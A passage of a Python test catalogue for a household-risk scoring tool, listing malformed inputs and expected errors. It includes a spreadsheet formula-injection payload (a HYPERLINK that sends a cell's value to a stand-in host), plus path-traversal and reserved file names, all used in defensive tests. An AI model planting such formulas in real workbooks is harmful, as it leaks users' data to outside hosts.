"""The catalogue of bad inputs: one :class:`Case` per way a real file goes wrong.

Each case builds its input files in a temporary folder and returns the ``fanpin``
command line to run (or, for department events until ``fanpin alerts`` exists, a
library call). ``test_bad_inputs.py`` runs every case; ``docs/bad-inputs.md`` is
rendered from this list by :func:`render_markdown` and a test keeps the two in
sync. Regenerate the document with::

    python -m tests.cli.catalogue
"""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd

from fanpin.schema import COLUMNS, EVENT_COLUMNS

from ..conftest import make_rows

DOC = Path(__file__).resolve().parents[2] / "docs" / "bad-inputs.md"
ALIAS = {c.name: c.alias for c in COLUMNS}


@dataclass(frozen=True)
class Ctx:
    """What a case may use: a temporary folder, a simulated panel, a model."""

    tmp: Path
    sim: Any
    model_dir: Path
    lines_yaml: Path


@dataclass(frozen=True)
class Case:
    """One bad input.

    ``outcome`` is ``error`` (exit code 1, the message, no output written),
    ``repair`` (exit code 0 and a "repaired" warning saying what changed),
    ``warning`` (exit code 0 and a warning) or ``accepted`` (read correctly as
    it is; exit code 0). ``patch`` (optional) is a context manager entered
    around the run, for conditions a test cannot make for real (a file root
    cannot read).
    """

    id: str
    input: str
    command: str
    outcome: str
    message: str
    make: Callable[[Ctx], Any]
    check: Callable[[Ctx], None] | None = None
    patch: Callable[[Ctx], Any] | None = None


# -- builders ---------------------------------------------------------------------
def base() -> pd.DataFrame:
    """Two valid households of 2023, English headers, as text cells."""
    return make_rows(
        {"household_id": "0001"},
        {"household_id": "0002", "income_wage": 30000.0, "labor_count": 1},
    ).astype(str)


def chinese(df: pd.DataFrame) -> pd.DataFrame:
    return df.rename(columns=ALIAS)


def csv(ctx: Ctx, df: pd.DataFrame, name: str = "p.csv", **kw) -> Path:
    p = ctx.tmp / name
    df.to_csv(p, index=False, **kw)
    return p


def edit(**cells: Any) -> pd.DataFrame:
    """The base table with the first row's cells replaced."""
    df = base()
    for k, v in cells.items():
        df[k] = df[k].astype(object)
        df.loc[0, k] = v
    return df


def validate_csv(df_fn: Callable[[], pd.DataFrame], **kw) -> Callable[[Ctx], list]:
    return lambda ctx: ["validate", csv(ctx, df_fn(), **kw)]


def validate_bytes(data: bytes, name: str = "p.csv") -> Callable[[Ctx], list]:
    def make(ctx: Ctx) -> list:
        p = ctx.tmp / name
        p.write_bytes(data)
        return ["validate", p]

    return make


def _excel_sheets(ctx: Ctx) -> list:
    p = ctx.tmp / "p.xlsx"
    with pd.ExcelWriter(p, engine="openpyxl") as xw:
        pd.DataFrame({"说明": ["本表为2023年监测数据"]}).to_excel(
            xw, sheet_name="说明", index=False
        )
        chinese(base()).to_excel(xw, sheet_name="农户", index=False)
        pd.DataFrame({"a": [1, 2]}).to_excel(xw, sheet_name="汇总", index=False)
    return ["validate", p]


def _excel_title(ctx: Ctx) -> list:
    p = ctx.tmp / "p.xlsx"
    with pd.ExcelWriter(p, engine="openpyxl") as xw:
        pd.DataFrame([["某县防止返贫监测信息表（2023年）"]]).to_excel(
            xw, sheet_name="Sheet1", index=False, header=False
        )
        chinese(base()).to_excel(xw, sheet_name="Sheet1", index=False, startrow=2)
    return ["validate", p]


def _numeric_ids(ctx: Ctx) -> list:
    df = base()
    df["household_id"] = [12, 13]
    p = ctx.tmp / "p.parquet"
    df.to_parquet(p)
    return ["validate", p]


def _truncated_parquet(ctx: Ctx) -> list:
    p = ctx.tmp / "p.parquet"
    ctx.sim.panel.to_parquet(p)
    data = p.read_bytes()
    p.write_bytes(data[: len(data) // 2])
    return ["validate", p]


def _pii(ctx: Ctx) -> pd.DataFrame:
    df = chinese(base())
    df["户主姓名"] = ["张三丰", "李四光"]
    df["身份证号"] = ["110101199003071234", "11010119900307567X"]
    df["联系电话"] = ["13912345678", "13887654321"]
    return df


def _mixed_headers() -> pd.DataFrame:
    df = base()
    half = list(df.columns)[::2]
    return df.rename(columns={c: ALIAS[c] for c in half})


def _duplicate_header() -> pd.DataFrame:
    df = base()
    df["家庭人口数"] = df["household_size"]
    return df


def _lines_missing_province(ctx: Ctx) -> list:
    p = ctx.tmp / "lines.yaml"
    p.write_text("default: {2023: 7100}\nprovinces:\n  湖北省: {2023: 7600}\n", "utf-8")
    return ["validate", csv(ctx, base()), "--lines", p]


def _lines_malformed(ctx: Ctx) -> list:
    p = ctx.tmp / "lines.yaml"
    p.write_text("default: {2023: 7100\nprovinces: [\n", "utf-8")
    return ["validate", csv(ctx, base()), "--lines", p]


# -- model and score builders -----------------------------------------------------
def _panel_file(ctx: Ctx) -> Path:
    p = ctx.tmp / "panel.parquet"
    ctx.sim.panel.to_parquet(p)
    return p


def _copy_model(ctx: Ctx) -> Path:
    d = ctx.tmp / "model"
    d.mkdir()
    for f in ctx.model_dir.iterdir():
        (d / f.name).write_bytes(f.read_bytes())
    return d


def _score(model_fn: Callable[[Ctx, Path], None], out: str = "out/scores.csv"):
    def make(ctx: Ctx) -> list:
        d = _copy_model(ctx)
        model_fn(ctx, d)
        return ["score", _panel_file(ctx), "--model", d, "--out", ctx.tmp / out]

    return make


def _tamper(ctx: Ctx, d: Path) -> None:
    p = d / "model.json"
    data = bytearray(p.read_bytes())
    data[len(data) // 2] ^= 0xFF
    p.write_bytes(bytes(data))


def _truncate(ctx: Ctx, d: Path) -> None:
    p = d / "model.json"
    p.write_bytes(p.read_bytes()[:1000])


def _rehash(d: Path) -> None:
    import hashlib

    card_path = d / "model_card.json"
    card = json.loads(card_path.read_text("utf-8"))
    for name in card["files"]:
        card["files"][name] = hashlib.sha256((d / name).read_bytes()).hexdigest()
    card_path.write_text(json.dumps(card), "utf-8")


def _corrupt_rehashed(ctx: Ctx, d: Path) -> None:
    """Garbage model file whose card was updated to match (hash check passes)."""
    (d / "model.json").write_bytes(b"this is not a model file\n" * 40)
    _rehash(d)


def _not_a_model(ctx: Ctx, d: Path) -> None:
    """Valid JSON of something else, with a matching card."""
    (d / "model.json").write_text(json.dumps({"weights": [1, 2, 3]}), "utf-8")
    _rehash(d)


def _no_card(ctx: Ctx, d: Path) -> None:
    (d / "model_card.json").unlink()


def _wrong_hash(ctx: Ctx, d: Path) -> None:
    card_path = d / "model_card.json"
    card = json.loads(card_path.read_text("utf-8"))
    card["files"] = dict.fromkeys(card["files"], "0" * 64)
    card_path.write_text(json.dumps(card), "utf-8")


def _bad_card(ctx: Ctx, d: Path) -> None:
    (d / "model_card.json").write_text("{not json", "utf-8")


def _other_features(ctx: Ctx, d: Path) -> None:
    """A pipeline whose booster was trained on columns the builders do not make."""
    import numpy as np

    from fanpin.models import RiskModel, load_model, save_model

    pipe = load_model(d)
    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(400, 2)), columns=["age", "weight"])
    y = (X["age"] > 0.5).astype(int).to_numpy()
    pipe.model = RiskModel(n_estimators=5, min_child_samples=10).fit(X, y)
    save_model(pipe, d)


def _bare_model(ctx: Ctx, d: Path) -> None:
    from fanpin.models import load_model, save_model

    save_model(load_model(d).model, d)


def _unwritable_score(ctx: Ctx) -> list:
    blocker = ctx.tmp / "blocker"
    blocker.write_text("a file, not a folder", "utf-8")
    d = _copy_model(ctx)
    return ["score", _panel_file(ctx), "--model", d, "--out", blocker / "scores.csv"]


def _unwritable_train(ctx: Ctx) -> list:
    blocker = ctx.tmp / "blocker"
    blocker.write_text("a file, not a folder", "utf-8")
    return ["train", _panel_file(ctx), "--out", blocker / "model", *_small(ctx)]


def _small(ctx: Ctx) -> list:
    p = ctx.tmp / "small.yaml"
    p.write_text("booster: {n_estimators: 5, min_child_samples: 20}\n", "utf-8")
    return ["--config", p]


def _train_one_year(ctx: Ctx) -> list:
    p = ctx.tmp / "panel.parquet"
    ctx.sim.panel.loc[ctx.sim.panel["year"] == 2023].to_parquet(p)
    return ["train", p, "--out", ctx.tmp / "model_out", *_small(ctx)]


def _train_year_not_in_lines(ctx: Ctx) -> list:
    p = ctx.tmp / "panel.parquet"
    panel = ctx.sim.panel.copy()
    panel["year"] = panel["year"] + 20
    panel.to_parquet(p)
    return ["train", p, "--out", ctx.tmp / "model_out", *_small(ctx)]


# -- events (library until `fanpin alerts` exists) ---------------------------------
def _events(rows: list[dict]) -> Callable[[Ctx], Callable[[], Any]]:
    def make(ctx: Ctx) -> Callable[[], Any]:
        from fanpin.schema import read_events

        p = csv(ctx, pd.DataFrame(rows), name="events.csv")
        panel = base().assign(household_id=["0001", "0002"])
        return lambda: read_events(p, panel, today=pd.Timestamp("2024-06-30"))

    return make


EVENT = {
    "household_id": "0001",
    "date": "2024-03-01",
    "source": "医保",
    "event_type": "住院自付",
    "amount": "12000",
    "persons": "1",
}


def _check_ids_kept(ctx: Ctx) -> None:
    from fanpin.schema import read_households

    ids = read_households(ctx.tmp / "p.csv")["household_id"].tolist()
    assert ids == ["0001", "0002"]


def _check_trimmed(ctx: Ctx) -> None:
    import warnings

    from fanpin.schema import read_households

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ids = read_households(ctx.tmp / "p.csv")["household_id"].tolist()
    assert ids == ["0001", "0002"]


# -- the national system's export as it comes ----------------------------------
TITLE = "2025年度防返贫监测对象信息表"


def _title_csv(encoding: str) -> Callable[[Ctx], list]:
    def make(ctx: Ctx) -> list:
        p = ctx.tmp / "p.csv"
        with open(p, "w", encoding=encoding, newline="") as fh:
            fh.write(TITLE + ",,,\r\n")
            chinese(base()).to_csv(fh, index=False, lineterminator="\r\n")
        return ["validate", p]

    return make


def export_gbk_csv(path: Path, df: pd.DataFrame) -> Path:
    """``df`` as the system's CSV export: GBK, a title row, Chinese headers."""
    with open(path, "w", encoding="gbk", newline="") as fh:
        fh.write(TITLE + "\r\n")
        df.rename(columns=ALIAS).to_csv(fh, index=False)
    return path


def export_xlsx(path: Path, df: pd.DataFrame, *, numbers: tuple[str, ...] = ()) -> Path:
    """An .xlsx shaped like the national system's export: a 填报说明 sheet
    first, then a title row merged across the header, a notes row, the header
    and the rows (the ``numbers`` columns stored as numbers)."""
    from openpyxl import Workbook

    wb = Workbook()
    notes = wb.active
    notes.title = "填报说明"
    for line in ("填报说明", "1. 户编码请勿修改。", "2. 金额单位：元。"):
        notes.append([line])
    ws = wb.create_sheet("监测对象")
    ws.append([TITLE])
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(df.columns))
    ws.append(["填报单位：某某县乡村振兴局", None, None, "导出日期：2026-01-05"])
    ws.append([ALIAS.get(c, c) for c in df.columns])
    for row in df.itertuples(index=False):
        cells = []
        for c, v in zip(df.columns, row, strict=True):
            text = str(v)
            plain = text.lstrip("-").replace(".", "", 1)
            if c in numbers and plain.isdigit() and not text.startswith("0"):
                f = float(v)
                cells.append(int(f) if f.is_integer() else f)
            else:
                cells.append(None if v in ("", None) else v)
        ws.append(cells)
    wb.save(path)
    return path


def _export_xlsx(ctx: Ctx) -> list:
    numbers = ("year", "household_size", "labor_count", "income_wage")
    return ["validate", export_xlsx(ctx.tmp / "p.xlsx", base(), numbers=numbers)]


def _number_ids_xlsx(ctx: Ctx) -> list:
    ids = [f"{150 + i:08d}" for i in range(12)]
    df = make_rows(*({"household_id": i} for i in ids)).astype(str)
    df["household_id"] = df["household_id"].astype(object)
    df.loc[0, "household_id"] = "150"  # typed as a number: the zeros are gone
    return [
        "validate",
        export_xlsx(ctx.tmp / "p.xlsx", df, numbers=("household_id", "year")),
    ]


def _score_title_xlsx(ctx: Ctx) -> list:
    p = export_xlsx(ctx.tmp / "panel.xlsx", ctx.sim.panel.astype(str))
    return ["score", p, "--model", ctx.model_dir, "--out", ctx.tmp / "o/s.csv"]


def _joined_exports(with_header: bool) -> Callable[[Ctx], list]:
    """Two UTF-8 (BOM) exports joined with ``cat``: the second one's BOM (and
    header) in the middle of the file."""

    def make(ctx: Ctx) -> list:
        first = base()
        second = make_rows({"household_id": "0003"}).astype(str)
        a = first.to_csv(index=False).encode("utf-8-sig")
        b = second.to_csv(index=False, header=with_header).encode("utf-8-sig")
        p = ctx.tmp / "p.csv"
        p.write_bytes(a + b)
        return ["validate", p]

    return make


def _check_three_households(ctx: Ctx) -> None:
    import warnings

    from fanpin.schema import read_households

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ids = read_households(ctx.tmp / "p.csv")["household_id"].tolist()
    assert ids == ["0001", "0002", "0003"], ids


def _trailing_empty_rows(ctx: Ctx) -> list:
    p = csv(ctx, base())
    with open(p, "a", encoding="utf-8") as fh:
        fh.write("," * (len(base().columns) - 1) + "\n")
    return ["validate", p]


def _duplicate_same_header(ctx: Ctx) -> list:
    df = chinese(base())
    extra = df["家庭人口数"].astype(object).copy()
    extra[:] = "9"
    p = ctx.tmp / "p.csv"
    cols = [*df.columns, "家庭人口数"]
    body = pd.concat([df, extra.rename("x")], axis=1)
    body.columns = cols
    body.to_csv(p, index=False)
    return ["validate", p]


def _long_line(ctx: Ctx) -> list:
    p = ctx.tmp / "p.csv"
    with open(p, "wb") as fh:
        fh.write(b"a," * (1 << 19))
    os.truncate(p, 200 * 1024 * 1024)  # 200 MB, sparse: nothing to write
    return ["validate", p]


def _folder(ctx: Ctx) -> list:
    d = ctx.tmp / "export"
    d.mkdir()
    return ["validate", d]


def _link_loop(ctx: Ctx) -> list:
    p = ctx.tmp / "loop.csv"
    os.symlink(p, p)
    return ["validate", p]


def _fifo(ctx: Ctx) -> list:
    p = ctx.tmp / "pipe.csv"
    os.mkfifo(p)
    return ["validate", p]


def _unreadable(ctx: Ctx) -> list:
    p = csv(ctx, base())
    os.chmod(p, 0)
    return ["validate", p]


@contextlib.contextmanager
def _deny_reading(ctx: Ctx):
    """Reading ``p.csv`` fails with EACCES, as for any user but root (the tests
    may run as root, who may read anything)."""
    import errno
    from unittest import mock

    real = os.open

    def fake(path, flags, *a, **k):
        if str(path).endswith("p.csv"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real(path, flags, *a, **k)

    with mock.patch("fanpin.io._files.os.open", fake):
        yield


def _lines_file(text: str) -> Callable[[Ctx], list]:
    def make(ctx: Ctx) -> list:
        p = ctx.tmp / "lines.yaml"
        p.write_text(text, "utf-8")
        return ["validate", csv(ctx, base()), "--lines", p]

    return make


def _alerts_with_events(rows: list[dict] | None, name: str = "events.csv"):
    """``fanpin alerts`` on the simulated panel with these pushes (2025)."""

    def make(ctx: Ctx) -> list:
        panel = _panel_file(ctx)
        ev = ctx.tmp / name
        cols = ["household_id", "date", "source", "event_type", "amount", "persons"]
        frame = pd.DataFrame(rows or [], columns=cols)
        frame.rename(columns={c.name: c.alias for c in EVENT_COLUMNS}).to_csv(
            ev, index=False
        )
        return [
            "alerts", panel, "--model", ctx.model_dir, "--events", ev,
            "--as-of", "2025-06-30", "--out", ctx.tmp / "out", "--quiet",
        ]  # fmt: skip

    return make


PUSH = {**EVENT, "household_id": "00000001", "date": "2025-03-01"}

# -- outputs, workbooks and the case store (issue 15) -----------------------------
AS_OF = "2025-03-31"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点击查看")'


def _alerts(ctx: Ctx, *extra: Any, panel: Path | None = None, out: str = "al") -> list:
    return [
        "alerts", panel or _panel_file(ctx), "--model", ctx.model_dir,
        "--out", ctx.tmp / out, "--as-of", AS_OF, "--quiet", *extra,
    ]  # fmt: skip


def _panel_with(ctx: Ctx, **cols: Any) -> Path:
    p = ctx.tmp / "panel.parquet"
    ctx.sim.panel.assign(**cols).to_parquet(p)
    return p


def _formula_village(ctx: Ctx) -> list:
    return _alerts(ctx, panel=_panel_with(ctx, village=FORMULA))


def _check_no_formula(ctx: Ctx) -> None:
    from openpyxl import load_workbook

    scored = pd.read_csv(ctx.tmp / "al" / "scored.csv", dtype=str, encoding="utf-8-sig")
    assert (scored["village"] == "'" + FORMULA).all()
    books = sorted((ctx.tmp / "al" / "excel").glob("*.xlsx"))
    assert books
    for book in books:
        for ws in load_workbook(book).worksheets:
            for row in ws.iter_rows():
                assert all(c.data_type != "f" for c in row)


def _phone_village(ctx: Ctx) -> list:
    return _alerts(ctx, panel=_panel_with(ctx, village="丙村13987654321"))


def _check_no_phone(ctx: Ctx) -> None:
    for p in (ctx.tmp / "al").rglob("*.*"):
        data = p.read_bytes()
        assert b"13987654321" not in data, p.name
        if p.suffix == ".csv":
            assert "丙村###########".encode() in data


def _pii_control(ctx: Ctx) -> list:
    ids = ctx.sim.panel["household_id"].drop_duplicates()
    people = pd.DataFrame({"household_id": ids, "户主姓名": "王秘密\x0b"})
    p = ctx.tmp / "pii.csv"
    people.to_csv(p, index=False)
    return _alerts(ctx, "--pii", p)


def _check_pii_control(ctx: Ctx) -> None:
    from openpyxl import load_workbook

    book = sorted((ctx.tmp / "al" / "excel").glob("*.xlsx"))[0]
    ws = load_workbook(book).worksheets[0]
    header = [c.value for c in ws[2]]  # row 1: the title
    assert ws.cell(row=3, column=header.index("户主姓名") + 1).value == "王秘密"


def _township_names(ctx: Ctx) -> list:
    panel = ctx.sim.panel.copy()
    panel["county"] = panel["county"].iloc[0]  # the names are the file names
    towns = sorted(panel["township"].unique())
    names = ["..", "CON", "镇" * 100]
    panel["township"] = panel["township"].map(
        {t: names[i % 3] for i, t in enumerate(towns)}
    )
    p = ctx.tmp / "panel.parquet"
    panel.to_parquet(p)
    return _alerts(ctx, panel=p)


def _check_township_names(ctx: Ctx) -> None:
    names = [p.name for p in (ctx.tmp / "al" / "excel").iterdir()]
    assert names and all(not n.startswith(".") for n in names)
    assert all(n.split(".")[0].upper() != "CON" for n in names)
    assert all(len(n.encode()) <= 200 for n in names)
    assert {"未填乡镇.xlsx", "CON_.xlsx"} <= set(names) and len(names) == 3


def _score_onto_input(ctx: Ctx) -> list:
    p = csv(ctx, base())
    return ["score", p, "--model", ctx.model_dir, "--out", p]


def _alerts_onto_input(ctx: Ctx) -> list:
    d = ctx.tmp / "dir"
    d.mkdir()
    p = d / "scored.parquet"
    ctx.sim.panel.to_parquet(p)
    return _alerts(ctx, panel=p, out="dir")


def _report_onto_input(ctx: Ctx) -> list:
    p = _panel_file(ctx)
    return ["report", p, "--model", ctx.model_dir, "--out", p]


def _store_file(ctx: Ctx, sql: str | None = None) -> str:
    from fanpin.workflow import CaseStore

    url = f"sqlite:///{ctx.tmp / 'cases.db'}"
    store = CaseStore(url)
    if sql:
        with store.engine.begin() as conn:
            conn.exec_driver_sql(sql)
    store.close()
    return url


def _store_not_a_db(ctx: Ctx) -> list:
    (ctx.tmp / "cases.db").write_bytes(b"PK\x03\x04 a workbook, not a database" * 50)
    return _alerts(ctx, "--store", f"sqlite:///{ctx.tmp / 'cases.db'}")


def _store_no_version(ctx: Ctx) -> list:
    return _alerts(ctx, "--store", _store_file(ctx, "DROP TABLE fanpin_schema"))


def _store_no_index(ctx: Ctx) -> list:
    url = _store_file(ctx, "DROP INDEX uq_cases_open_household")
    return _alerts(ctx, "--store", url)


def _store_missing_folder(ctx: Ctx) -> list:
    return _alerts(ctx, "--store", f"sqlite:///{ctx.tmp / 'nope' / 'cases.db'}")


def _store_long_village(ctx: Ctx) -> list:
    url = _store_file(ctx)
    return _alerts(ctx, "--store", url, panel=_panel_with(ctx, village="长" * 70))


def _case(ctx: Ctx) -> str:
    from fanpin.workflow import CaseStore

    url = _store_file(ctx)
    with CaseStore(url) as store:
        store.open_case("0001", actor="a")
    return url


def _note_with_numbers(ctx: Ctx) -> list:
    return [
        "cases", "update", "1", "--to", "核查中", "--store", _case(ctx),
        "--actor", "乙镇干部", "--note", "身份证11010119900307123X 电话139-8765-4321",
    ]  # fmt: skip


def _check_note_masked(ctx: Ctx) -> None:
    import sqlite3

    con = sqlite3.connect(ctx.tmp / "cases.db")
    try:
        dump = "\n".join(con.iterdump())
    finally:
        con.close()
    assert "11010119900307123X" not in dump and "8765-4321" not in dump


def _actor_phone(ctx: Ctx) -> list:
    return [
        "cases", "update", "1", "--to", "核查中", "--store", _case(ctx),
        "--actor", "139 8765 4321",
    ]  # fmt: skip


#: Cases whose behaviour is a bug in an area still being written (test skipped).
KNOWN_BUGS: dict[str, str] = {}

CASES: list[Case] = [
    # -- columns
    Case(
        "missing-required-column",
        "`household_size` column absent",
        "validate",
        "error",
        "required column 'household_size' (家庭人口数) is missing",
        validate_csv(lambda: base().drop(columns="household_size")),
    ),
    Case(
        "misspelt-column",
        "`household_size` spelt `househld_size`",
        "validate",
        "error",
        "(did you mean 'househld_size'?)",
        validate_csv(
            lambda: base().rename(columns={"household_size": "househld_size"})
        ),
    ),
    Case(
        "mixed-headers",
        "half the headers English, half Chinese",
        "validate",
        "accepted",
        "is valid",
        validate_csv(_mixed_headers),
    ),
    Case(
        "duplicate-header",
        "both `household_size` and `家庭人口数`",
        "validate",
        "error",
        "column 'household_size' is given twice",
        validate_csv(_duplicate_header),
    ),
    Case(
        "personal-data-columns",
        "户主姓名, 身份证号, 联系电话 columns present",
        "validate",
        "accepted",
        "is valid",
        lambda ctx: ["validate", csv(ctx, _pii(ctx))],
    ),
    # -- cell formats
    Case(
        "count-with-unit",
        "household_size `3人`",
        "validate",
        "repair",
        "household_size: 1 value(s) with separators, full-width digits or units",
        validate_csv(lambda: edit(household_size="3人")),
    ),
    Case(
        "number-as-word",
        "household_size `three`",
        "validate",
        "error",
        "value(s) are not numbers, e.g. 'three'",
        validate_csv(lambda: edit(household_size="three")),
    ),
    Case(
        "thousands-separator",
        "income_wage `12,550`",
        "validate",
        "repair",
        "income_wage: 1 value(s) with separators",
        validate_csv(lambda: edit(income_wage="12,550")),
    ),
    Case(
        "full-width-digits",
        "income_wage `１２５５０`",
        "validate",
        "repair",
        "income_wage: 1 value(s) with separators",
        validate_csv(lambda: edit(income_wage="１２５５０")),
    ),
    Case(
        "year-with-suffix",
        "year `2023年`",
        "validate",
        "repair",
        "year: 1 value(s) with separators",
        validate_csv(lambda: edit(year="2023年")),
    ),
    Case(
        "fractional-count",
        "household_size `2.5`",
        "validate",
        "error",
        "'household_size' (家庭人口数): 1 value(s) are not whole numbers",
        validate_csv(lambda: edit(household_size="2.5")),
    ),
    Case(
        "bad-yes-no",
        "housing_safe `maybe`",
        "validate",
        "error",
        "value(s) are not yes/no, e.g. 'maybe'",
        validate_csv(lambda: edit(housing_safe="maybe")),
    ),
    Case(
        "unknown-household-type",
        "household_type `贫困户`",
        "validate",
        "error",
        "value(s) not allowed, e.g. '贫困户'",
        validate_csv(lambda: edit(household_type="贫困户")),
    ),
    # -- values
    Case(
        "negative-count",
        "chronic_ill_count `-1`",
        "validate",
        "error",
        "'chronic_ill_count' (慢性病人数): 1 value(s) below 0",
        validate_csv(lambda: edit(chronic_ill_count="-1")),
    ),
    Case(
        "labour-above-size",
        "labor_count 9 in a household of 4",
        "validate",
        "error",
        "'labor_count' (劳动力人数): 1 value(s) above household_size",
        validate_csv(lambda: edit(labor_count="9")),
    ),
    Case(
        "oop-above-total",
        "medical_cost_oop 5000 > medical_cost_total 1000",
        "validate",
        "error",
        "'medical_cost_oop' (医疗自付费用): 1 value(s) above medical_cost_total",
        validate_csv(lambda: edit(medical_cost_total="1000", medical_cost_oop="5000")),
    ),
    Case(
        "missing-required-value",
        "blank income_wage cell",
        "validate",
        "error",
        "'income_wage' (工资性收入): 1 missing value(s) in a required column",
        validate_csv(lambda: edit(income_wage="")),
    ),
    Case(
        "duplicate-household-year",
        "household 0001 twice in 2023",
        "validate",
        "error",
        "2 duplicate (household_id, year) row(s) (0001 in 2023 at row 2, "
        "0001 in 2023 at row 3)",
        validate_csv(lambda: base().assign(household_id="0001")),
    ),
    # -- identifiers
    Case(
        "leading-zero-ids",
        "household_id `0001` in a CSV",
        "validate",
        "accepted",
        "is valid",
        validate_csv(base),
        _check_ids_kept,
    ),
    Case(
        "numeric-ids",
        "household_id stored as numbers in Parquet",
        "validate",
        "repair",
        "household_id: stored as numbers; leading zeros may be lost",
        _numeric_ids,
    ),
    Case(
        "ids-with-spaces",
        "household_id `0001 ` (trailing space)",
        "validate",
        "repair",
        "household_id: spaces or full-width characters trimmed",
        validate_csv(lambda: edit(household_id="0001 ")),
        _check_trimmed,
    ),
    # -- files
    Case(
        "empty-file",
        "a 0-byte CSV",
        "validate",
        "error",
        "is empty (0 bytes)",
        validate_bytes(b""),
    ),
    Case(
        "header-only",
        "a CSV with the header and no rows",
        "validate",
        "error",
        "the table has a header but no rows",
        validate_csv(lambda: base().iloc[:0]),
    ),
    Case(
        "utf8-bom",
        "CSV in UTF-8 with BOM, Chinese headers",
        "validate",
        "accepted",
        "is valid",
        validate_csv(lambda: chinese(base()), encoding="utf-8-sig"),
    ),
    Case(
        "gbk-csv",
        "CSV in GBK, Chinese headers",
        "validate",
        "accepted",
        "is valid",
        validate_csv(lambda: chinese(base()), encoding="gbk"),
    ),
    Case(
        "not-text",
        "a .csv that is binary (neither UTF-8 nor GBK)",
        "validate",
        "error",
        "it is neither UTF-8 nor GBK text",
        validate_bytes(b"\xff\xfe\x80\x00" * 64),
    ),
    Case(
        "ragged-csv",
        "a CSV row with more fields than the header",
        "validate",
        "error",
        "Cannot parse CSV file 'p.csv'",
        validate_bytes(b"household_id,year\n0001,2023\n0002,2023,x,y\n"),
    ),
    Case(
        "excel-several-sheets",
        "an .xlsx with a notes sheet before the data",
        "validate",
        "accepted",
        "is valid",
        _excel_sheets,
    ),
    Case(
        "excel-title-row",
        "an .xlsx with a title row above the header",
        "validate",
        "accepted",
        "is valid",
        _excel_title,
    ),
    Case(
        "corrupted-excel",
        "an .xlsx that is not a workbook",
        "validate",
        "error",
        "the file looks corrupted or is not an Excel workbook",
        validate_bytes(b"PK\x03\x04 broken zip" * 10, "p.xlsx"),
    ),
    Case(
        "truncated-parquet",
        "a Parquet file cut in half",
        "validate",
        "error",
        "The file is truncated or not Parquet",
        _truncated_parquet,
    ),
    Case(
        "unknown-file-type",
        "a .json file",
        "validate",
        "error",
        "unknown file type '.json'",
        validate_bytes(b"{}", "p.json"),
    ),
    Case(
        "missing-file",
        "a path that does not exist",
        "validate",
        "error",
        "does not exist. Check the path.",
        lambda ctx: ["validate", ctx.tmp / "nope.csv"],
    ),
    # -- monitoring lines
    Case(
        "lines-missing-province",
        "provinces absent from the lines table",
        "validate",
        "accepted",
        "the default line applies to 1 province(s) without a line of their own: 甘肃省",
        _lines_missing_province,
    ),
    Case(
        "lines-missing-year",
        "panel years 2041-2044, absent from the lines",
        "train",
        "error",
        "have no value for year(s) 2041, 2042, 2043, 2044",
        _train_year_not_in_lines,
    ),
    Case(
        "lines-malformed",
        "a lines YAML with broken syntax",
        "validate",
        "error",
        "is not valid YAML at line",
        _lines_malformed,
    ),
    # -- training
    Case(
        "train-one-year",
        "a panel with a single year",
        "train",
        "error",
        "The panel has no labelled transition",
        _train_one_year,
    ),
    Case(
        "train-unwritable-out",
        "--out inside a regular file",
        "train",
        "error",
        "Cannot write",
        _unwritable_train,
    ),
    # -- models
    Case(
        "model-other-features",
        "a model trained on other features",
        "score",
        "error",
        "no longer produces",
        _score(_other_features),
    ),
    Case(
        "model-bare-estimator",
        "a bare RiskModel instead of a pipeline",
        "score",
        "error",
        "holds a bare RiskModel",
        _score(_bare_model),
    ),
    Case(
        "model-tampered",
        "model.json with one byte changed",
        "score",
        "error",
        "does not match its model card",
        _score(_tamper),
    ),
    Case(
        "model-truncated",
        "model.json cut to 1,000 bytes",
        "score",
        "error",
        "does not match its model card",
        _score(_truncate),
    ),
    Case(
        "model-corrupted",
        "model.json replaced by garbage, card re-hashed",
        "score",
        "error",
        "model.json",
        _score(_corrupt_rehashed),
    ),
    Case(
        "model-not-a-model",
        "model.json holds another object, card re-hashed",
        "score",
        "error",
        "cannot be read as a fanpin model file",
        _score(_not_a_model),
    ),
    Case(
        "model-card-missing",
        "model_card.json deleted",
        "score",
        "error",
        "has no model_card.json",
        _score(_no_card),
    ),
    Case(
        "model-card-wrong-hash",
        "model_card.json with another sha256",
        "score",
        "error",
        "does not match its model card",
        _score(_wrong_hash),
    ),
    Case(
        "model-card-not-json",
        "model_card.json that is not JSON",
        "score",
        "error",
        "is not valid",
        _score(_bad_card),
    ),
    Case(
        "model-dir-missing",
        "--model pointing nowhere",
        "score",
        "error",
        "has no model_card.json",
        lambda ctx: [
            "score",
            _panel_file(ctx),
            "--model",
            ctx.tmp / "nope",
            "--out",
            ctx.tmp / "out/scores.csv",
        ],
    ),
    # -- outputs
    Case(
        "score-unwritable-out",
        "--out inside a regular file",
        "score",
        "error",
        "you can write to",
        _unwritable_score,
    ),
    Case(
        "score-bad-suffix",
        "--out scores.txt",
        "score",
        "error",
        "must end in .csv or .parquet",
        _score(lambda c, d: None, "scores.txt"),
    ),
    # -- department events
    Case(
        "events-unknown-household",
        "an event for household 9999, not in the panel",
        "read_events",
        "error",
        "1 event(s) name households that are not in the panel",
        _events([{**EVENT, "household_id": "9999"}]),
    ),
    Case(
        "events-future-date",
        "an event dated after today",
        "read_events",
        "error",
        "1 event(s) are dated in the future",
        _events([{**EVENT, "date": "2031-01-01"}]),
    ),
    Case(
        "events-unknown-type",
        "event_type `住院` (not in the list)",
        "read_events",
        "error",
        "value(s) not allowed, e.g. '住院'",
        _events([{**EVENT, "event_type": "住院"}]),
    ),
    # -- outputs, workbooks and the case store
    Case(
        "formula-village",
        "a village named `=HYPERLINK(…)`",
        "alerts",
        "accepted",
        "households scored",
        _formula_village,
        _check_no_formula,
    ),
    Case(
        "phone-in-village",
        "a village name holding a phone number",
        "alerts",
        "repair",
        "phone-like numbers",
        _phone_village,
        _check_no_phone,
    ),
    Case(
        "pii-control-character",
        "a `--pii` name with a control character (`王秘密\\x0b`)",
        "alerts",
        "repair",
        "column '户主姓名' had",
        _pii_control,
        _check_pii_control,
    ),
    Case(
        "township-names",
        "townships named `..`, `CON` and 300 bytes long",
        "alerts",
        "accepted",
